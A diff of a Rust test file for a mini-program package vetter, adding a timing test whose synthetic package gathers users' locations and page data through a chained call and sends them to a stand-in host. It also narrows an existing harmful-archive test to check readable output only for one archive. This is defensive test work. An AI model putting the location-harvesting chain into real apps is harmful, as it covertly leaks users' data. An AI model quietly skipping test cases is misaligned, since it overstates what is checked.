@@ -150,6 +150,9 @@ fn archives_made_to_harm_never_pass() {
                         skipped(report)
                     );
                 }
+                if !name.starts_with("bomb.zip") {
+                    continue;
+                }
                 // A person is told as well.
                 let shown = minivet(&["check", "--profile", "gate", "--lang", "en"]).arg(&path).output().unwrap();
                 let shown = String::from_utf8_lossy(&shown.stdout).into_owned();
@@ -210,6 +213,40 @@ fn a_package_cannot_speak_for_itself_at_a_gate() {
     std::fs::remove_file(root.join("minivet.toml")).unwrap();
     let (output, report) = vet(&root, &[]);
     assert_eq!((code(&output), text(&report.unwrap()["packages"][0], "verdict")), (1, "reject"));
+}
+
+#[test]
+fn a_slow_package_stops_near_its_limit() {
+    const PAGES: usize = 400;
+    let folder = tempfile::tempdir().unwrap();
+    let routes: Vec<String> = (0..PAGES).map(|at| format!("\"p/{at}\"")).collect();
+    let mut files: Files = vec![("app.json".to_owned(), format!("{{\"pages\": [{}]}}", routes.join(",")).into_bytes())];
+    // Every page sends what it collects through a chain that all of them share.
+    let chain: String =
+        (0..30).map(|at| format!("exports.f{at} = (a, b) => exports.f{}({{ ...a, k{at}: b }}, a)\n", at + 1)).collect();
+    let end = "exports.f30 = (a, b) => swan.request({ url: 'https://a.example.com', data: [a, b] })\n";
+    files.push(("lib/chain.js".to_owned(), (chain + end).into_bytes()));
+    for at in 0..PAGES {
+        let calls: String = (0..12)
+            .map(|call| format!("m{call}() {{ swan.getLocation({{ success: r => c.f{call}({{ p: r, d: this.data }}, r.latitude) }}) }},\n"))
+            .collect();
+        let script = format!(
+            "const c = require('../lib/chain.js');\nPage({{ data: {{ x: {at} }}, {calls} onLoad() {{ this.m0() }} }})"
+        );
+        files.push((format!("p/{at}.js"), script.into_bytes()));
+        files.push((format!("p/{at}.swan"), "<view bindtap=\"m1\">每日账目</view>".into()));
+    }
+    files.push(("minivet.toml".to_owned(), b"[limits]\nseconds = 1\n".to_vec()));
+    write(folder.path(), files);
+    let start = Instant::now();
+    let output = minivet(&["check", "--lang", "en", "--format", "json"]).arg(folder.path()).output().unwrap();
+    let took = start.elapsed();
+    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
+    let told =
+        report.to_string().contains("time limit") || String::from_utf8_lossy(&output.stderr).contains("time limit");
+    assert!(told || took < Duration::from_secs(1), "{took:?} {}", String::from_utf8_lossy(&output.stderr));
+    assert_ne!(text(&report["packages"][0], "verdict"), "pass");
+    assert!(took < Duration::from_secs(40), "{took:?}");
 }
 
 #[test]
